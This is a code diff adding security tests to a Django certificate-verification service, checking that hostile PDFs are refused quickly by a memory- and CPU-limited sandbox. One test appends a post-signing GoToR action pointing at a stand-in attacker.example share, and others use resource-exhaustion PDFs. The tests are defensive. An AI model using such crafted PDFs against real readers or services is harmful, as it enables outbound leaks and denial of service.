@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import dataclasses
+import io
+import time
+import tracemalloc
 from pathlib import Path
 
 import pytest
@@ -12,6 +15,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from certificates import keys
+from tests.security import hostile_pdfs
 from tests.verification.helpers import revoke
 
 pytestmark = pytest.mark.django_db
@@ -142,3 +146,105 @@ def test_no_file_is_asked_for(client):
     response = client.post(reverse("verification:document"), {})
     assert response.status_code == 400
     assert "Choose the certificate PDF to check" in response.content.decode()
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile PDFs (issue 18, finding 4): 4xx within 2 s each, the check held to its budget
+# ---------------------------------------------------------------------------------------------
+
+MEMORY_BUDGET = 256 * 1024 * 1024  # UPLOAD_CHECK_MEMORY_MB
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    return hostile_pdfs.write_corpus(tmp_path_factory.mktemp("hostile"))
+
+
+@pytest.fixture
+def warm_sandbox(client, keys_dir):
+    """The first check of a process starts the forkserver (once): not part of any timing."""
+    upload(client, render_and_sign())
+
+
+UNPROCESSABLE = {
+    "unchecked": "could not be checked",
+    "unsafe": "an action that opens another file or sends data out",
+}
+
+
+@pytest.mark.parametrize("case", sorted(hostile_pdfs.HOSTILE))
+def test_a_hostile_pdf_gets_422_within_2_seconds_from_a_limited_child(
+    client, case, hostile, warm_sandbox
+):
+    kind, path = hostile[case]
+    with hostile_pdfs.recorded_sandbox_runs() as runs:
+        started = time.monotonic()
+        response = upload(client, path.read_bytes())
+        elapsed = time.monotonic() - started
+
+    assert response.status_code == 422
+    assert elapsed < 2, elapsed
+    html = response.content.decode()
+    assert REFUSED in html
+    assert UNPROCESSABLE[kind] in html
+    (ran,) = runs
+    assert ran.address_space_limit == ran.inherited_bytes + MEMORY_BUDGET
+    assert ran.peak_rss_bytes < ran.address_space_limit
+    assert ran.cpu_limit <= 2
+
+
+def test_the_300_mib_body_is_the_corpus_s_last_member(client):
+    # Refused from its Content-Length (tests/security/test_request_body_limits.py has the rest).
+    from tests.security.test_request_body_limits import EndlessBody, post_body
+
+    body = EndlessBody(300 * 1024 * 1024)
+    started = time.monotonic()
+    response = post_body(client, reverse("verification:document"), body)
+    assert response.status_code == 413
+    assert time.monotonic() - started < 2
+    assert body.read_so_far == 0
+
+
+def test_the_fields_bomb_costs_the_web_process_little_memory(client, hostile, warm_sandbox):
+    # The parent holds the upload and hands it over; only the child (limited) parses it.
+    _, path = hostile["fields bomb (1.7 million /Fields entries)"]
+    data = path.read_bytes()
+    tracemalloc.start()
+    try:
+        response = upload(client, data)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert response.status_code == 422
+    assert peak < 6 * len(data), peak  # the upload and its copies (form, pickle), no parse
+
+
+def test_a_check_that_exhausts_its_budget_gets_422_not_500(client, keys_dir, monkeypatch):
+    from tests.security import sandbox_targets
+    from verification import document_check
+
+    monkeypatch.setattr(document_check, "certificate_check", sandbox_targets.hoard)
+    response = upload(client, render_and_sign())
+    assert response.status_code == 422
+    assert "could not be checked" in response.content.decode()
+
+
+def test_a_genuine_certificate_with_a_go_to_remote_appended_is_refused_as_unsafe(
+    client, genuine_pdf
+):
+    # An incremental update after signing that adds an action leaving the document.
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer = PdfWriter(io.BytesIO(genuine_pdf), incremental=True)
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/GoToR"),
+            NameObject("/F"): TextStringObject("\\\\attacker.example\\share\\x.pdf"),
+        }
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    response = upload(client, out.getvalue())
+    assert response.status_code == 422
+    assert "opens another file" in response.content.decode()
